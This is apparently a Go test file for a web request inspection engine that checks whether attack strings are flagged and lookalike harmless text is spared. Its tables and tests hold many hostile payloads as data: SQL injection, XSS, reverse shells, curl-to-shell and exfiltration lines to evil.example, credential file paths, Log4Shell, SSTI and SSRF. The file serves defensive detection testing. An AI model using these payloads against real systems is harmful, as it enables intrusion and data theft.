package inspect_test

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"

	"sallyport.dev"
	"sallyport.dev/guard/inspect"
)

// cases hold attacks of each class beside values that look like them. They are
// written from the languages' own grammars, not from a collection.
var cases = []struct {
	class          string
	attacks, alike []string
}{
	{"sqli", []string{
		"(12=12)*7", "iif(3=3,7,1/0)", "iif/**/(3=4,7,1/0)", "x]-(select 0 where 3=3;select sleep(4)--", "9 1.e) or 4=sleep 1.e(5 1.e)-- ", "7')#\nunion#\nselect#\n1,2,3#", "sleep(6)#\n1", "' and (select * from [odbc;driver=x;server=192.0.2.1;database=d].a.b) and '", "5';call case when (4=5) then regexp_substring(repeat('a',9999999),null) end--", "elt/**/(3=3,sleep/**/(4))", "concat(0x223e3c62,version(),0x3c2f62)",

		"' or 'a'='a", "x' or 1=1 -- ", `" or ""="`, "1 or 1=1", "1) or (1=1", "admin'--", "admin' #", "1;drop table users", "1'; delete from orders where 1=1--",
		"-1 union select 1,2,3", "1' union all select null,version()-- ", "1/**/union/**/select/**/password/**/from/**/users", "1'/*!50000union*/ /*!50000select*/ 1,2-- -",
		"1' and sleep(5)-- ", "1 and benchmark(10000000,sha1(1))", "1';waitfor delay '0:0:10'--", "1' and extractvalue(1,concat(0x7e,version()))-- ", "1||(select pg_sleep(5))", "1 and (select count(*) from information_schema.tables)>0",
		"id desc, (select 1 from dual)", "' having 1=1--", "1' order by 10-- -", "'; exec xp_cmdshell 'whoami'--", "' || (select password from users limit 1) || '", "x' and substring(password,1,1)='a", "1 or true--", "1 or true", "' or true or '", "1' or not false#",
		"9e0union select 1,2", "' oR/**/1=1#", "1 AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64", "' and 1=convert(int,@@version)--", "select load_file('/etc/passwd')", "1' into outfile '/tmp/x'-- ", "1 procedure analyse(1)", "a' or name like '%", "') or ('1'='1", "1 or 2>1", "' or 5 between 1 and 10--",
		"1;insert into users(name) values('x')", "1;update users set admin=1", "(select 1 from (select sleep(3))x)", "1 and 1=(select 1 from users where name='admin')",
	}, []string{
		"sum(price) / count(items)", "avg(x) - min(y)", "K and Q (#2073)", "nanosleep (2), sleep (3), time (7)", ">=16 || 14 >=14.17", "a single leading '=' is kept as it is", "the options 'in' and 'like' take a list", "x = (y + 2) * 3", "consume the \"=\".", "days := int(len(list.Get(s)))", "'==', '!=', '<', '>='", "f(4) = 16",

		"O'Brien", "select a union rep", "1 or 2 people", "rock 'n' roll or pop", "order by Friday, group by colour", "drop table tennis from the list", "a = b or b = c", "it's -- well -- fine", "#1 choice", "5' 10\" or 6'", "'yes' and 'no'", "where is it? and how", "union of 1 and 2", "insert coin into slot", "x or y", "sleep well", "count (of) items",
	}},
	{"xss", []string{
		"console[\"log\"](1)", "[ ] . sort . call ` ${ alert } 1 `", "self /*x*/ [ /*y*/ 'alert'](1)", "document/*a*/./*b*/cookie", "document.querySelector('h1').innerHTML='<b>x'",

		"<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", `"><img src=x onerror=prompt(1)>`, `" autofocus onfocus=alert(1) x="`, "javascript:alert(document.domain)", "java\tscript:alert(1)", "<a href='javascript:alert(1)'>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
		"<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "';alert(1)//", `"-alert(1)-"`, "</script><script>alert(1)</script>", "<body onload=alert`1`>", "<details open ontoggle=alert(1)>", "<math><mtext></mtext><a xlink:href=javascript:alert(1)>x</a></math>", "<div style=width:expression(alert(1))>", "<object data=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit>",
		"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example>", "<embed src=//evil.example/x.swf>", "&lt;script&gt;alert(1)&lt;/script&gt;", `\u003cscript\u003ealert(1)\u003c/script\u003e`, "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "<x onclick=alert(1)>click", "<video><source onerror=alert(1)>", "top['al'+'ert'](1)", "[].constructor.constructor('alert(1)')()",
		"<style>@import'//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<script\x00>alert(1)</script>", "<input onfocus=eval(atob(this.id)) id=YWxlcnQoMSk= autofocus>", "data:text/html,<script>alert(1)</script>",
	}, []string{
		"use `queueMicrotask()` instead of a timer", "timers (`setTimeout`, `setInterval`) and `fetch` are mocked", "Was a `*sync.Map` keyed by int, see [docs](a.md)", "see [`new`][] and [one](1.md)", "OnBootSec=50 means 50 s after boot: \"OnBootSec=50\"", "wrapped in one or more <![CDATA[ ... ]]> sections", "@import url(\"basic.css\"); body { margin: 0 }", "r := fv.Call(args[:])[0].Interface()",

		"a < b", "<3", "x<y and y>z", "List<String> names", "Alice <alice@example.test>", "<name>", "<b>bold</b>", "the javascript: the good parts", "alert (red)", "confirm your e-mail", "on time = good", "once=1", "eval of the week", "document.pdf", "C:\\scripts\\on.bat", "data: see below", "<https://example.test/>", "onion = 5", "[link](https://example.test/)", "location: Paris",
	}},
	{"cmdi", []string{
		"{cat,/etc/passwd}", "x|{ls,-la}", "cd /;cd etc;more passwd", "for %i in (a,b) do echo %i", "& for /f %x in ('dir') do @echo %x", "if %a% equ 1 echo b", "if not exist c:\\x.txt (echo y)", "if /i a==a echo b", "/bin/unxz -c /var/log/auth.log.xz", "x;time sh -c id", "ksh -c 'id'", "$SHELL -c 'id'", "alias c=curl",

		"; cat /etc/passwd", "nc -lvvp 4445 -e /bin/sh &", "| id", "|| ping -c 10 127.0.0.1", "&& whoami", "$(curl http://evil.example/x)", "`wget http://evil.example/x`", "a;id", "x|nc -e /bin/sh 10.0.0.1 4444", "; /bin/bash -c 'id'", "& dir c:\\", "1; sleep 10", "$(sleep 5)", "cat${IFS}/etc/passwd", ";c'a't /etc/passwd", "; w\\get http://evil.example", "\n/usr/bin/id\n", "| powershell -enc SQBFAFgA", "& ping -n 10 localhost &", "; rm -rf /", "$((1337+1))$(echo x)", "x; bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "/bin/cat /etc/shadow", "cmd.exe /c dir", "; /???/c?t /???/p??s??", "a | tee /tmp/x", "; python3 -c 'import os'", "foo & net user hacker x /add", "; curl evil.example | sh", ">(id)", "`id`",
	}, []string{
		"{cat,dog}", "Make /var/lib/y readable for all users", "*.{sh,ps,js}", "a prompt for bash & zsh", "python3-mock | python3 (>= 3.3), python3:any", "^(if|try|elif|while)$", "(exe|cmd|bat)", "|FILE|write the log to FILE", "I'd go; I'd stay", "set it in $(MAKE) or $(file <x)", "Dear all,\nvim\nand emacs were updated", "the words\nid\nand name are kept, as it was agreed", "when $IFS is empty, words are joined", "Make /var/lib/x writable by the group that owns it", "if the lid is open; if -c is given it closes", "the file is read; for 5% in total (or more) do call", "if a == b then stop",

		"fish & chips | salad", "cats; dogs; find them", "the `id` field", "use `ls -la` to list", "R&D", "who & what", "a=1&id=5&sort=name", "| id | name |", "time; date; place", "ping me", "echo this; cat. minutes", "sleep 5 hours", "kill 2 birds", "net income; gross", "black; cat", "$(document).ready", "make || break", "curl/8.5.0", "less is more; more or less",
	}},
	{"traversal", []string{
		"/etc/[m-z]asswd", "/usr/[a-z]in/sh", "/etc/pas[s]wd",

		"../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "..;/..;/manager/html", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/x", "..%u2215..%u2215x", "/etc/passwd", "/proc/self/environ", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index", "image.php%00.png", "c:\\boot.ini", "/WEB-INF/web.xml", "..\\..\\..\\x", "/var/www/../../etc/shadow", "../../../../../../../../x", "．．／．．／etc／passwd", ".\\..\\..\\x", "/.git/config", "/home/alice/.ssh/id_rsa",
	}, []string{
		"/items/[id]/edit", "the tests are in ../../testdata/x.txt", "see also: ../../docs/setup.md", "demo-override-web.xml", "/etc/hostname 文件", "add \"file://\" to the path, as others do", "/proc/net/stat/x counts what the kernel saw", "use `file:///` as the root",

		"../README.md is one level up", "C:\\Users\\Bob\\report.docx", "wait... what?", "v1.0.0...v1.1.0", "./build/output.js", "src/**/*.ts", "/home/alice/site/index.html", "/api/v1/items", "a/b/./c", "import x from '../lib/util'", "archive..zip", "etc.", "hosts and guests", "/usr/local/bin", "well.... ok",
	}},
	{"log4shell", []string{"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "${${env:X:-j}ndi:dns://evil.example}", "%24%7Bjndi:ldap://evil.example/a%7D", "${j${k8s:k5:-ND}i:ldap://evil.example/}", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "x${jndi:ldaps://evil.example/a"},
		[]string{"${firstName}", "${VAR:-default}", "jndi: the naming interface", "costs ${price}", "${{ secrets.TOKEN }}"}},
	{"ssti", []string{"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", "{%import os%}{{os.popen('id').read()}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "*{T(java.lang.Runtime).getRuntime()}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "{{request.application.__globals__}}", "@(1+2)"},
		[]string{"Hello {{name}}", "{{ order.total | currency }}", "#{user}", "<%= title %>", "{% if user %}", "${project.version}", "{0} of {1}", "{{#each items}}{{this}}{{/each}}"}},
	{"xxe", []string{`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, `<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">`, `<!ENTITY % p SYSTEM "http://evil.example/x">`, `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>`},
		[]string{`<?xml version="1.0"?><a>1</a>`, "<!DOCTYPE html>", "entity relationship", "<order><data>5</data><link>x</link></order>"}},
	{"shellshock", []string{"() { :;}; /bin/bash -c id", "() { _; } >_[$($())] { id; }", "(){ :;};echo x"}, []string{"() => { return 1; }", "function () { return; }", "f(x) { g(x); }"}},
	{"nosql", []string{`{"$ne":null}`, `{"$gt":""}`, "[$ne]", "$where", `{"$where":"sleep(1000)"}`, "'; return true; var x='", "' || '1'=='1", `{"$regex":".*"}`, "admin' || this.password.match(/.*/)//"},
		[]string{"$100", "costs $in total", "{\"price\":{\"min\":1}}", "US$eq", "$variable"}},
	{"ldap", []string{
		"x)|(uid=*", "x)&(cn=admin", "*)!(sn=*",
		"*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(password=*)", "admin)(!(&(1=0"}, []string{
		"(a)|(b)", "a) & b",
		"(&(objectClass=person)(cn=bob))", "(a) and (b)", "f(x)(y)", "see (1) (2)", ":) (hi)"}},
	{"xpath", []string{"' or count(/*)=1 or '", "x']|//*|//a['", "' or string-length(name(/*[1]))=4 or 'a'='b", "1 or '1'] | //user/*[contains(*,'"}, []string{"//book[@lang='en']", "it's /text/", "a/b[1]"}},
	{"crlf", []string{
		"x\r\nRemote-Addr: 192.0.2.1", "\nPOST /b HTTP/1.1",
		"x\r\nSet-Cookie: a=b", "x%0d%0aSet-Cookie:%20a=b", "x%0aLocation:%20http://evil.example", "x\r\n\r\n<script>alert(1)</script>", "x嘊嘍Set-Cookie: a=b"}, []string{
		"Notes\r\nfollow-up on Monday",
		"line one\r\nline two", "Dear Bob,\n\nto: do", "Content: fine\nLocation: Paris"}},
	{"mail", []string{"a@example.test\nBcc: b@example.test", "a@example.test%0aCc:b@example.test"}, []string{"a@example.test, b@example.test", "Cc: me please"}},
	{"ssrf", []string{"http://169.254.169.254/latest/meta-data/", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://metadata.google.internal/", "gopher://127.0.0.1:6379/_x", "dict://localhost:11211/", "http://user@169.254.169.254/", "http://[::ffff:169.254.169.254]/", "http://127.1/", "ldap://evil.example/a", "http://[::1]:8080/"},
		[]string{
			"it answers on http://127.0.0.1:9001 until noon", "the scheme must be ldap://", "sftp:// or ssh://",
			"http://localhost:3000/callback", "https://example.test/a", "http://192.0.2.1/x", "http://example.test:8080/", "//cdn.example.test/app.js", "linode://25218332", "unix:///run/x.sock"}},
	{"deserialisation", []string{`O:8:"stdClass":1:{s:1:"a";i:1;}`, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}`, "!!python/object/apply:os.system ['id']", `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "cos\nsystem\n(S'id'\ntR.", "AAEAAAD/////AQAAAAAAAAAMAgAAAF"},
		[]string{"o: 5", `{"@type":"Person","name":"Bob"}`, "A:1", "C:\\x"}},
	{"code", []string{
		"('system')('id')", "(system)(id)", "$_x[1](2)", "${'a'}(1)", "$f(1).$f(2)", "define('x','sys'.'tem');(x)('id');", "';exit(md5(1));//", "<?\techo 1;?>", "while(true);", "process[mainModule]",
		"<?php system('id'); ?>", "phpinfo()", "__import__('os').system('id')", "require('child_process').exec('id')", "Runtime.getRuntime().exec(\"id\")", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "';system('id');//", "${@print(md5(1))}", "eval(base64_decode('aWQ='))", "os.system('id')"},
		[]string{
			"$f(x)$ is continuous", "exec(2), create_function(7)", "the printing system(tm) of the year", "`process.exit()` ends it", "see `child_process.spawn` there", "os.ReadFile(...)", "$(document).ready", "price $5 (approx)", "while (x) wait",
			"print(\"hello\")", "def f(x): return x", "the system (old) failed", "require('./config')", "exec summary", "import os is a module"}},
	{"pollution", []string{
		"constructor.prototype.a",
		`{"__proto__":{"admin":true}}`, "__proto__[admin]", "__proto__", "constructor[prototype][admin]", `{"constructor":{"prototype":{"a":1}}}`}, []string{
		"a name such as `__proto__` is refused",
		"constructor", "prototype", "the constructor of the class"}},
	{"ssi", []string{`<!--#exec cmd="id"-->`, `<!--#include virtual="/etc/passwd"-->`, `<!--#echo var="DATE_LOCAL"-->`, `<esi:include src="http://evil.example/"/>`}, []string{"<!-- note -->", "#include <stdio.h>"}},
}

func TestCheck(t *testing.T) {
	e := engine(t, inspect.Options{})
	var s inspect.Scratch
	for _, c := range cases {
		for _, v := range c.attacks {
			s.Begin()
			f := e.CheckString(v, sallyport.InQuery, &s)
			if !f.Hit() {
				t.Errorf("%s: %q is spared", c.class, v)
			}
		}
		for _, v := range c.alike {
			for _, in := range []sallyport.In{sallyport.InQuery, sallyport.InBody, sallyport.InHeader} {
				s.Begin()
				if f := e.CheckString(v, in, &s); f.Hit() {
					t.Errorf("%s: %q is refused in a %s value: %s %d %s", c.class, v, in, f.Rule, f.Score, f.Decoded)
				}
			}
		}
	}
}

// TestPadded sends attacks behind words: what excuses a text must not excuse
// what follows it.
func TestPadded(t *testing.T) {
	e := engine(t, inspect.Options{})
	var s inspect.Scratch
	for _, v := range []string{
		"one two three four | whoami", "one two three four; cat /etc/passwd", "one two three four\ncat /etc/passwd", "one two three four $(curl evil.example)", "one two three four && nc -e /bin/sh 192.0.2.1 80",
		"see the file ../../../../etc/passwd", "one two three ../../../../../../x", "we say '=' here ' or 1=1-- ", "a = b, c = d, e = f' union select password from users-- ", "one two three four' or 'a'='a",
		"one two `three` `four` <script>alert(1)</script>", "one two `three`;alert`1`//", "I'd go; w'h'o'am'i", "I'd go; cat /etc/passwd", "(a|b) one | cat /etc/shadow", "{a|b}|id", "# one\n1 union select 1,2-- ", "(12) or 1=1-- (#12)",
		"$(file x) $(id)", "one two three four `x` ${jndi:ldap://evil.example/a}", "1 or 1=1 # one\n or 2=2 # two", "sleep (5)", "12) and sleep (9)-- one two three",
	} {
		s.Begin()
		if f := e.CheckString(v, sallyport.InQuery, &s); !f.Hit() {
			t.Errorf("%q is spared", v)
		}
	}
}

// TestForms sends attacks through the encodings that an upstream may undo.
func TestForms(t *testing.T) {
	e := engine(t, inspect.Options{})
	var s inspect.Scratch
	forms := map[string]func(string) string{
		"percent":        url.QueryEscape,
		"percent twice":  func(v string) string { return url.QueryEscape(url.QueryEscape(v)) },
		"base64":         func(v string) string { return base64.StdEncoding.EncodeToString([]byte(v)) },
		"percent base64": func(v string) string { return url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(v))) },
		"json escapes": func(v string) string {
			var b strings.Builder
			for _, c := range v {
				b.WriteString(`\u00`)
				b.WriteString(string("0123456789abcdef"[c>>4&15]) + string("0123456789abcdef"[c&15]))
			}
			return b.String()
		},
		"entities": func(v string) string {
			var b strings.Builder
			for _, c := range v {
				b.WriteString("&#x" + string("0123456789abcdef"[c>>4&15]) + string("0123456789abcdef"[c&15]) + ";")
			}
			return b.String()
		},
		"fullwidth": func(v string) string {
			var b strings.Builder
			for _, c := range v {
				if c > ' ' && c < 0x7f {
					c += 0xfee0
				}
				b.WriteRune(c)
			}
			return b.String()
		},
		"inside JSON": func(v string) string { return `{"a":["` + strings.ReplaceAll(v, `"`, `\"`) + `"]}` },
	}
	for _, v := range []string{"1' or 1=1 union select password from users-- ", "<script>alert(1)</script>", "../../../../etc/passwd", "; cat /etc/passwd | nc evil.example 80", "${jndi:ldap://evil.example/a}"} {
		for name, form := range forms {
			if f := e.CheckString(form(v), sallyport.InBody, &s); !f.Hit() {
				t.Errorf("%s: %q as %q is spared", name, v, form(v))
			}
		}
	}
}

// TestPasswords spares what generators of passwords and keys make: every mark,
// no meaning.
func TestPasswords(t *testing.T) {
	e := engine(t, inspect.Options{})
	var s inspect.Scratch
	r := rand.New(rand.NewPCG(1, 2))
	refused, of := 0, 20000
	for range of {
		b := make([]byte, 8+r.IntN(40))
		for i := range b {
			b[i] = byte(0x21 + r.IntN(0x5e))
		}
		s.Begin()
		if f := e.Check(b, sallyport.InBody, &s); f.Hit() {
			if refused++; refused <= 40 {
				t.Logf("%s is refused: %s", b, f.Rule)
			}
		}
	}
	if refused*1000 > of {
		t.Errorf("%d of %d random passwords are refused; want at most 0.1 %%", refused, of)
	}
}

func TestNoAllocationOnCleanValues(t *testing.T) {
	e := engine(t, inspect.Options{})
	var s inspect.Scratch
	values := leaves(order(10))
	values = append(values, []byte(strings.Repeat(prose, 4)), []byte("Conor O'Brien"), []byte("https://example.test/search?q=blue+jacket&page=2"))
	check := func() {
		for _, v := range values {
			if f := e.Check(v, sallyport.InBody, &s); f.Hit() {
				t.Fatalf("%q is refused: %s", v, f.Rule)
			}
		}
	}
	check()
	if n := testing.AllocsPerRun(100, check); n != 0 {
		t.Errorf("%v allocations for %d clean values; want none", n, len(values))
	}
}

// TestLongValues finds an attack wherever it stands in a long value, also where
// the value is made to exhaust the reader.
func TestLongValues(t *testing.T) {
	e := engine(t, inspect.Options{})
	var s inspect.Scratch
	for _, pad := range []int{100, 10_000, 65_000, 66_000, 200_000} {
		v := strings.Repeat(prose, pad/len(prose)+1)[:pad] + "<script>alert(1)</script>" + prose
		if !e.CheckString(v, sallyport.InBody, &s).Hit() {
			t.Errorf("a script after %d bytes of prose is spared", pad)
		}
		if f := e.CheckString(v[:pad], sallyport.InBody, &s); f.Hit() {
			t.Errorf("%d bytes of prose are refused: %s", pad, f.Rule)
		}
	}
	for name, v := range hostile() {
		if f := e.CheckString(v+"<script>alert(1)</script>", sallyport.InBody, &s); !f.Hit() {
			t.Errorf("a script after 64 KiB of %s is spared", name)
		}
	}
}

func FuzzCheck(f *testing.F) {
	for _, c := range cases {
		for _, v := range append(c.attacks, c.alike...) {
			f.Add([]byte(v))
		}
	}
	e := engine(f, inspect.Options{NoRuleSet: true})
	var s inspect.Scratch
	f.Fuzz(func(t *testing.T, v []byte) {
		before := string(v)
		for _, in := range []sallyport.In{sallyport.InQuery, sallyport.InBody} {
			got := e.Check(v, in, &s)
			if again := e.Check(v, in, nil); got != again {
				t.Errorf("%q judged twice: %+v, then %+v", v, got, again)
			}
			if got.Hit() != (got.Score >= inspect.Threshold) || got.Hit() != (got.Rule != "") {
				t.Errorf("%q: %+v contradicts itself", v, got)
			}
		}
		if string(v) != before {
			t.Errorf("the value was changed: %q", before)
		}
	})
}

// TestAmbiguousFlood shows that a request made of ambiguous values does not buy
// the time of the Core Rule Set for each of them.
func TestAmbiguousFlood(t *testing.T) {
	e := engine(t, inspect.Options{})
	var s inspect.Scratch
	run := 0 // no value twice: answers are remembered
	allocs := testing.AllocsPerRun(1, func() {
		s.Begin()
		run++
		for i := range 800 {
			e.CheckString(fmt.Sprintf("wget files.example.test/%d/%d", run, i), sallyport.InBody, &s)
		}
	})
	// One asking allocates more than 500 times, and about 20 are lent.
	if allocs < 8*500 || allocs > 20*3000 {
		t.Errorf("%v allocations for 800 ambiguous values; want about twenty askings", allocs)
	}
}
